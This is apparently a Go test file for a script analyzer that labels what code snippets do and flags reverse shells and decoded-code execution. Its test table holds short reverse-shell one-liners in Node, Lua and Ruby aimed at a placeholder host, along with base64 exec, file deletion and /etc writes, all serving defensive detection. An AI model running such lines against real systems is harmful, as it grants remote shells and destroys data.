package script

import (
	"strings"
	"testing"
)

func TestRead(t *testing.T) {
	for _, c := range []struct{ language, text, verb, object, id string }{
		{"python", "import os\nos.system('rm x')", "execute", "rm x", ""},
		{"python", "import shutil; shutil.rmtree('/srv/a')", "delete", "/srv/a", ""},
		{"perl", `unlink "x"`, "delete", "x", ""},
		{"node", `require("child_process").spawn("/bin/sh").stdout.pipe(require("net").connect(1,"h"))`, "grant", "", "reverse-shell"},
		{"lua", `t=socket.tcp();t:connect('h','1');os.execute('/bin/sh')`, "grant", "", "reverse-shell"},
		{"ruby", `c=TCPSocket.new("h",1);IO.popen(l,"r")`, "grant", "", "reverse-shell"},
		{"python", "exec(base64.b64decode('eA=='))", "execute", "", "decoded-code"},
		{"python", "open('/etc/x','w').write('a')", "write", "/etc/x", ""},
	} {
		found := false
		for _, h := range Read(c.language, c.text) {
			found = found || h.Verb == c.verb && (c.object == "" || h.Object == c.object) && h.ID == c.id
		}
		if !found {
			t.Errorf("%s: %+v", c.text, Read(c.language, c.text))
		}
	}
}

func TestUnderstoodIsOnlyWhatSurelyPrints(t *testing.T) {
	for _, c := range []struct {
		language, text string
		want           bool
	}{
		{"python", "print(1)", true},
		{"python", "import sys; print(sys.version)", true},
		{"awk", "{print $1}", true},
		{"perl", `print "hello"`, true},
		{"python", "import os; os.remove('x')", false},
		{"python", "frobnicate()", false},
		{"awk", `{print | "sh"}`, false},
		{"awk", `BEGIN{system("x")}`, false},
	} {
		if got := Understood(c.language, c.text) && len(Read(c.language, c.text)) == 0; got != c.want {
			t.Errorf("%s: %v", c.text, got)
		}
	}
}

// TestLongLinesAreReadOnce checks that the work on code in a single line grows
// no faster than its length: what is found is capped, what is looked at counted.
func TestLongLinesAreReadOnce(t *testing.T) {
	for _, piece := range []string{"os.system(x);", "exec(x);", "a.b=", "os.remove(y);", "os.system("} {
		if hits := Read("python", strings.Repeat(piece, 30_000)); len(hits) > maxHits {
			t.Errorf("%s: %d hits", piece, len(hits))
		}
	}
}
